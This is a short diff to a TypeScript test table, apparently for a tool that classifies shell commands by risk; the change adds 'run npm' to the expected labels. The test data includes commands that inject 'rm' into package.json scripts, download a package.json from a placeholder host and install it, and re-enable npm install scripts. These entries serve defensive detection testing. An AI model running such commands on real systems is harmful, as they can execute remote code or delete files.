@@ -74,10 +74,11 @@ export const PACKAGES: readonly Program[] = [
       'npm exec -- rimraf x': 'action run-package; delete -r x; run rimraf',
       'npm config set ignore-scripts false': 'action disable-security',
       'npm test': 'nothing',
-      "npm pkg set scripts.x='rm y' && npm run x": 'delete y; run rm; write package.json',
-      'echo \'{"scripts":{"x":"rm y"}}\' > package.json && npm run x': 'delete y; run rm; write package.json',
+      "npm pkg set scripts.x='rm y' && npm run x": 'delete y; run npm; run rm; write package.json',
+      'echo \'{"scripts":{"x":"rm y"}}\' > package.json && npm run x':
+        'delete y; run npm; run rm; write package.json',
       'curl https://a.example -o package.json && npm i':
-        'flow net:a.example>exec; net a.example; remote; write package.json',
+        'flow net:a.example>exec; net a.example; remote; run npm; write package.json',
     },
   },
   {
